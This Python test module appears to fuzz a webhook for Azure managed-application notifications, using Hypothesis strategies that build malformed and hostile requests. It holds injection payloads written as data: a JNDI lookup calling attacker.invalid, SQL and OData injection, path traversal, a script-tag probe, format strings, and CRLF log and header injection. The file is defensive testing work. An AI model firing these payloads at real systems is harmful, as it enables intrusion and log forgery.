"""Requests that mean no good, made from the notification's schema and from nothing at all."""

from __future__ import annotations

import json
import string
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

from hypothesis import strategies as st
from hypothesis.strategies import DrawFn, SearchStrategy

MARKER = "PAYLOADMARKER"
"""Is in every payload, and must come out nowhere."""

FORGED_LINE = "2026-01-01 00:00:00,000 INFO    forged: all is well"
TOMORROW = datetime(2100, 1, 1)  # noqa: DTZ001 - the offset is written behind it
SUBSCRIPTION = "b0b0b0b0-0000-4000-8000-00000000dead"

junk_text = st.one_of(
    st.text(max_size=60),
    st.sampled_from(
        [
            "",
            " ",
            "\x00",
            f"{MARKER}\r\n{FORGED_LINE}",
            f"{MARKER}\n{FORGED_LINE}",
            "\u2028\u2029\u202e\ufeff",
            "'; DROP TABLE applications; --",
            "' or 1 eq 1 or '",
            "%00%0d%0a",
            "../" * 30,
            "${jndi:ldap://attacker.invalid/a}",
            "{{7*7}}%s%n{0}",
            "<script>alert(1)</script>",
            "A" * 70_000,
            "🙂" * 5000,
            "\ud800",
        ]
    ),
)
junk = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.just(10**400),
        st.floats(),
        junk_text,
    ),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(junk_text, inner, max_size=4)),
    max_leaves=8,
)
segment = st.one_of(
    st.sampled_from(
        [
            "..",
            ".",
            "",
            "a/../../b",
            "%2e%2e%2f",
            "..%2f..",
            "a'b",
            "a''b",
            "') or (PartitionKey ne '",
            "a\\b",
            "a#b",
            "a?b=c",
            "a|b",
            "|rg|name",
            "a\tb",
            "a\nb",
            "a\x7fb",
            "a%00b",
            "\u202eppa",
            "ß",
            "İ",
            "ﬀ",
            "app.",
            "a" * 91,
            "a" * 261,
            "(a)",
            "\uff41\uff50\uff50",
            "A_-.()",
        ]
    ),
    st.text(alphabet=string.ascii_letters + string.digits + "-_.()'/|\\#?%\x00\n ", max_size=30),
    st.text(max_size=12),
)


@st.composite
def application_ids(draw: DrawFn) -> str:
    """An id that looks like a managed application's, more or less."""
    subscription = draw(st.one_of(st.just(SUBSCRIPTION), segment))
    kind = draw(st.sampled_from(["Microsoft.Solutions/applications", "microsoft.solutions/APPLICATIONS", "a/b"]))
    slash = draw(st.sampled_from(["/", "", "//", "https://attacker.invalid/"]))
    tail = draw(st.sampled_from(["", "/", "/extra", "?x=1", "/providers/x"]))
    return f"{slash}subscriptions/{subscription}/resourceGroups/{draw(segment)}/providers/{kind}/{draw(segment)}{tail}"


moments = st.one_of(
    st.sampled_from(
        [
            "2026-01-02T03:04:05.1234567Z",
            "2026-01-02T03:04:05+25:00",
            "0001-01-01T00:00:00+14:00",
            "9999-12-31T23:59:59.9999999-14:00",
            "2026-02-30T00:00:00Z",
            "2026-01-02t03:04:05z",
            "٢٠٢٦-01-02T03:04:05Z",
            "2026-01-02T03:04:05." + "1" * 10_000 + "Z",
        ]
    ),
    junk_text,
)
kinds = st.one_of(st.sampled_from(["PUT", "PATCH", "DELETE", "put", "Delete", "MERGE"]), junk_text)
states = st.one_of(st.sampled_from(["Accepted", "Succeeded", "Failed", "Deleting", "Deleted", "deleted"]), junk_text)


@st.composite
def notifications(draw: DrawFn) -> dict[str, Any]:
    """A notification in which any member may be missing, of another type, or something that nobody expects."""
    payload: dict[str, Any] = {
        "eventType": draw(kinds),
        "applicationId": draw(application_ids()),
        "eventTime": draw(moments),
        "provisioningState": draw(states),
        "billingDetails": {"resourceUsageId": MARKER},
        "plan": {"publisher": draw(junk_text), "product": MARKER, "name": draw(junk), "version": draw(junk_text)},
        "error": {"code": draw(junk_text), "message": f"{MARKER}\n{FORGED_LINE}", "details": draw(junk)},
        "extra": MARKER,
    }
    for name in draw(st.lists(st.sampled_from(sorted(payload)), max_size=2)):
        payload[name] = draw(junk)
    for name in draw(st.lists(st.sampled_from(sorted(payload)), max_size=1)):
        payload.pop(name, None)
    return payload


@st.composite
def nearly_right(draw: DrawFn) -> dict[str, Any]:
    """A notification as Azure sends it, about an application that ARM does not know, with at most one thing wrong."""
    name = draw(st.text(alphabet=string.ascii_letters + string.digits + "-_.()\u00df\u0416", min_size=1, max_size=90))
    payload: dict[str, Any] = {
        "eventType": draw(st.sampled_from(["PUT", "PATCH", "DELETE", "put", "MERGE"])),
        "applicationId": (
            f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg/providers/Microsoft.Solutions/applications/{name}"
        ),
        "eventTime": draw(st.one_of(st.just(TOMORROW), st.just(TOMORROW), st.datetimes())).isoformat()
        + draw(st.sampled_from(["Z", "", "+14:00"])),
        "provisioningState": draw(st.sampled_from(["Succeeded", "Succeeded", "Deleted", "Accepted", "Failed", "New"])),
        "billingDetails": {"resourceUsageId": MARKER},
        "plan": {"publisher": draw(junk_text), "product": MARKER, "name": draw(junk_text), "version": draw(junk_text)},
        "error": {"code": draw(junk_text), "message": f"{MARKER}\n{FORGED_LINE}", "details": draw(junk)},
        "extra": draw(junk),
    }
    for member in draw(st.lists(st.sampled_from(sorted(payload)), max_size=1)):
        payload[member] = draw(st.one_of(junk, application_ids(), moments))
    return payload


def _encoded(payload: Any) -> bytes:
    return json.dumps(payload).encode()


bodies: SearchStrategy[bytes] = st.one_of(
    *[nearly_right().map(_encoded)] * 6,
    notifications().map(_encoded),
    notifications().map(lambda payload: json.dumps(payload, ensure_ascii=False).encode("utf-8", "surrogatepass")),
    notifications().map(lambda payload: json.dumps(payload).encode("utf-16")),
    notifications().map(lambda payload: b"\xef\xbb\xbf" + _encoded(payload)),
    notifications().map(lambda payload: _encoded(payload)[:-1] + b', "eventType": "DELETE"}'),
    notifications().map(lambda payload: _encoded([payload] * 3)),
    st.builds(lambda payload, cut: _encoded(payload)[:cut], notifications(), st.integers(0, 400)),
    junk.map(_encoded),
    st.binary(max_size=400),
    st.sampled_from(
        [
            b"",
            b"[" * 60_000,
            b'{"a":' * 10_000,
            b"9" * 60_000,
            b"{" + b'"a":1,' * 8000 + b'"b":2}',
            b" " * 200_000,
            b"\x00" * 1000,
            b"x" * 1_000_000,
            b'{"eventType": NaN}',
            b'{"error": ' * 20_000 + b"1" + b"}" * 20_000,
            b'{"a": "' + b'\\"' * 200_000,
        ]
    ),
)
header_values = st.text(alphabet=string.printable[:94], max_size=40)
NO_JSON = ("text/html", "multipart/form-data; boundary=x", "IMAGE/png")
media_types = st.sampled_from(["application/json", "text/plain", "application/octet-stream", "x", *NO_JSON])


@dataclass(frozen=True)
class HostileRequest:
    """One request; `signature` and `code` are "right", or what is sent instead; None: nothing."""

    body: bytes
    signature: str | None = "right"
    code: str | None = "right"
    method: str = "POST"
    path: str = "/api/resource"
    headers: dict[str, str] = field(default_factory=dict)
    more_query: str = ""

    @property
    def says_that_it_is_no_json(self) -> bool:
        return self.headers.get("Content-Type") in NO_JSON


wrong_secrets = st.one_of(
    st.none(),
    st.just(""),
    st.text(alphabet=string.printable[:94], max_size=40),
    st.just("right,right"),
    st.just("\x00"),
)


@st.composite
def hostile_requests(draw: DrawFn, *, signed: bool) -> HostileRequest:
    """A request with a good signature and anything else; or one without, which nothing in it may make good."""
    headers = draw(
        st.dictionaries(
            st.sampled_from(
                [
                    "X-Forwarded-For",
                    "X-MS-CLIENT-PRINCIPAL",
                    "User-Agent",
                    "Accept",
                    "traceparent",
                    "Cookie",
                ]
            ),
            header_values,
            max_size=3,
        )
    )
    if draw(st.booleans()):
        headers["Content-Type"] = draw(media_types)
    return HostileRequest(
        draw(bodies),
        signature="right" if signed else draw(wrong_secrets),
        method=draw(st.sampled_from(["POST"] * 12 + ["GET", "PUT", "DELETE", "OPTIONS"])),
        path=draw(
            st.sampled_from(
                ["/api/resource"] * 12
                + [
                    "/API/Resource/",
                    "/api/resource/../resource",
                    "/api/resource%2f",
                    "/api/%2e%2e/api/resource",
                    "//api/resource",
                ]
            )
        ),
        headers=headers,
        more_query=draw(st.sampled_from(["", "", "&x=%ff%fe", "&x[]=1&x=2", "&" + "a=1&" * 500, "&%00=%0d%0aX:%20y"])),
    )
